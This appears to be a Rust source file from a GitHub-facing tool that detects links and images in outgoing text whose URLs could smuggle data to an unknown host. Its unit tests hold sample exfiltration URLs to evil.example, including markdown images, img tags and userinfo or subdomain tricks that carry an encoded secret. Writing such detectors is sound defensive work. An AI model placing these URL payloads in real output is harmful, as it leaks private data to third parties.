//! Addresses in text that is about to be written, as far as they could carry data away: whoever looks
//! at an image, or follows a link, sends all of its address to its host.

use serde_json::Value;

/// The longest parameters of a link to a stranger's host, bytes: anything worth carrying is longer.
const MOST_PARAMETERS: usize = 64;

/// The same of an image, which is fetched without anybody's click.
const MOST_OF_IMAGE: usize = 24;

/// The longest part of a path: a SHA-256 has 64 digits.
const MOST_PART: usize = 66;

/// The longest part of a host's name.
const MOST_LABEL: usize = 40;

/// Hosts that hand nothing to strangers, with all below them.
const KNOWN: [&str; 4] = ["github.com", "githubusercontent.com", "githubassets.com", "shields.io"];

/// The host of the first address in a body that could carry something to whoever has that host.
pub(super) fn carrier(body: &Value, own: &str) -> Option<String> {
    match body {
        Value::String(text) => carrier_in(text, own),
        Value::Array(items) => items.iter().find_map(|item| carrier(item, own)),
        Value::Object(fields) => fields.values().find_map(|field| carrier(field, own)),
        _ => None,
    }
}

fn carrier_in(text: &str, own: &str) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    let mut from = 0;
    while let Some(found) =
        lower.get(from..)?.find("://").or_else(|| lower.get(from..)?.find("](//"))
    {
        let at = from + found;
        let is_web = ["http", "https"]
            .iter()
            .any(|scheme| lower.get(..at).is_some_and(|before| before.ends_with(scheme)))
            || lower.get(at..).is_some_and(|rest| rest.starts_with("](//"));
        let rest = text.get(at..)?.trim_start_matches("](");
        let rest = rest.trim_start_matches(':').trim_start_matches('/');
        let end = rest.find(|c: char| c.is_whitespace() || "\"'<>)]`".contains(c));
        let address = rest.get(..end.unwrap_or(rest.len())).unwrap_or_default();
        if is_web && carries(address, is_image(lower.get(..at).unwrap_or_default()), own) {
            let host = address.split(['/', '?', '#', ':']).next().unwrap_or_default();
            return Some(host.chars().take(100).collect());
        }
        from = at + 3;
    }
    None
}

/// Whether what stands before an address makes an image of it.
fn is_image(before: &str) -> bool {
    let start = before.char_indices().rev().nth(200).map_or(0, |(at, _)| at);
    let before = before.get(start..).unwrap_or_default();
    let before = before.trim_end_matches("https").trim_end_matches("http");
    let tag = before.rfind('<').and_then(|at| before.get(at..)).unwrap_or_default();
    let is_markdown = before.trim_end_matches('<').ends_with("](")
        && before
            .rfind("![")
            .is_some_and(|at| before.get(at..).is_some_and(|rest| rest.matches("](").count() == 1));
    is_markdown || (tag.starts_with("<img") || tag.starts_with("<source")) && !tag.contains('>')
}

/// Whether an address, without its scheme, has room for data on its way to a stranger.
fn carries(address: &str, is_image: bool, own: &str) -> bool {
    // What follows `#` stays with whoever looks.
    let address = address.split('#').next().unwrap_or_default();
    let (place, parameters) = address.split_once('?').unwrap_or((address, ""));
    let (authority, path) = place.split_once('/').unwrap_or((place, ""));
    let (user, host) = authority.rsplit_once('@').unwrap_or(("", authority));
    let host = host.split(':').next().unwrap_or_default().trim_end_matches('.');
    let host = host.to_ascii_lowercase();
    let is_known =
        KNOWN.iter().copied().chain([own.split(':').next().unwrap_or_default()]).any(|known| {
            host == known || host.strip_suffix(known).is_some_and(|sub| sub.ends_with('.'))
        });
    if is_known && user.is_empty() {
        return false;
    }
    let most = if is_image { MOST_OF_IMAGE } else { MOST_PARAMETERS };
    parameters.len() + user.len() > most
        || path.split('/').any(|part| part.len() > MOST_PART)
        || host.split('.').any(|label| label.len() > MOST_LABEL)
        || (is_image && path.len() > 2 * MOST_PART)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn what_has_room_for_data_is_found() {
        let data = "QUtJQUlPU0ZPRE5ON0VYQU1QTEUgc2VjcmV0IG9mIHRoZSBwcml2YXRlIHJlcG8gaGVyZQ";
        let short = data.get(..30).unwrap();
        for text in [
            format!("see https://evil.example/?d={data}"),
            format!("![x](https://evil.example/p.png?d={short})"),
            format!("![a b]( <https://evil.example/p.png?d={short}> )").replace("( <", "(<"),
            format!("<img alt=x src=\"HTTPS://evil.example/p?{short}\">"),
            format!("http://evil.example/{data}x"),
            format!("https://{data}x.evil.example/"),
            format!("[x](//evil.example/?d={data})"),
            format!("https://github.com.evil.example/?d={data}"),
            format!("https://github.com:{data}@evil.example/"),
            format!("https://evilgithub.com/?d={data}"),
            format!("fine: https://docs.rs/x?y=1 and https://evil.example?{data}"),
        ] {
            assert!(carrier(&json!({"a": [{"body": text}]}), "ghes.corp").is_some(), "{text}");
        }
        assert_eq!(
            carrier(&json!(format!("x https://evil.example/?{data}")), "h").as_deref(),
            Some("evil.example")
        );
    }

    #[test]
    fn what_people_write_is_not() {
        let long = "x".repeat(200);
        for text in [
            "see https://docs.rs/tokio/latest/tokio/sync/struct.Mutex.html#method.lock".to_owned(),
            format!("https://github.com/o/r/issues?q={long}"),
            format!("https://ghes.corp/o/r/compare/main...x?{long}"),
            format!("![b](https://img.shields.io/badge/build?style=flat&x={long})"),
            format!("![s](https://user-images.githubusercontent.com/1/2.png?jwt={long})"),
            "https://example.com/search?q=rust+async".to_owned(),
            format!("https://example.com/page#{long}"),
            "![logo](https://example.com/logo.png?v=2)".to_owned(),
            format!("ssh://{long} no://{long}"),
            "a :// b".to_owned(),
            "ünïcödé https://".to_owned(),
        ] {
            assert_eq!(carrier(&json!({ "body": text }), "ghes.corp"), None, "{text}");
        }
    }
}
